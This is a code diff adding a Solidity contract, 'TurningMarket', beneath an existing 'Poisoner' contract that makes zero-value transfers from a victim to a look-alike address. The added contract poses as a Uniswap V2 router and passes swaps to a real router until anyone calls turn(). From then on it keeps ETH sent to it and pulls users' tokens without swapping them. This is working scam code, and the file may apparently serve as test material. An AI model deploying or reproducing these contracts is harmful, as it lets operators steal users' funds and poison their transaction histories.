@@ -93,3 +93,48 @@ contract Poisoner {
         ITaken(token).transferFrom(victim, lookAlike, 0);
     }
 }
+
+interface IRouter {
+    function swapExactETHForTokensSupportingFeeOnTransferTokens(uint256 least, address[] calldata path, address to, uint256 deadline) external payable;
+    function swapExactTokensForETHSupportingFeeOnTransferTokens(uint256 amount, uint256 least, address[] calldata path, address to, uint256 deadline) external;
+    function swapExactTokensForTokensSupportingFeeOnTransferTokens(uint256 amount, uint256 least, address[] calldata path, address to, uint256 deadline) external;
+}
+
+interface ISold {
+    function transferFrom(address from, address to, uint256 amount) external returns (bool);
+    function approve(address spender, uint256 amount) external returns (bool);
+}
+
+/// Looks like a router of Uniswap V2 and swaps on a real one, until it turns: then it keeps what it gets.
+contract TurningMarket {
+    address private immutable router;
+    bool public hasTurned;
+
+    constructor(address router_) {
+        router = router_;
+    }
+
+    function turn() external {
+        hasTurned = true;
+    }
+
+    function swapExactETHForTokensSupportingFeeOnTransferTokens(uint256 least, address[] calldata path, address to, uint256 deadline) external payable {
+        if (hasTurned) return;
+        IRouter(router).swapExactETHForTokensSupportingFeeOnTransferTokens{value: msg.value}(least, path, to, deadline);
+    }
+
+    function swapExactTokensForETHSupportingFeeOnTransferTokens(uint256 amount, uint256 least, address[] calldata path, address to, uint256 deadline) external {
+        take(path[0], amount);
+        if (!hasTurned) IRouter(router).swapExactTokensForETHSupportingFeeOnTransferTokens(amount, least, path, to, deadline);
+    }
+
+    function swapExactTokensForTokensSupportingFeeOnTransferTokens(uint256 amount, uint256 least, address[] calldata path, address to, uint256 deadline) external {
+        take(path[0], amount);
+        if (!hasTurned) IRouter(router).swapExactTokensForTokensSupportingFeeOnTransferTokens(amount, least, path, to, deadline);
+    }
+
+    function take(address token, uint256 amount) private {
+        ISold(token).transferFrom(msg.sender, address(this), amount);
+        ISold(token).approve(router, amount);
+    }
+}
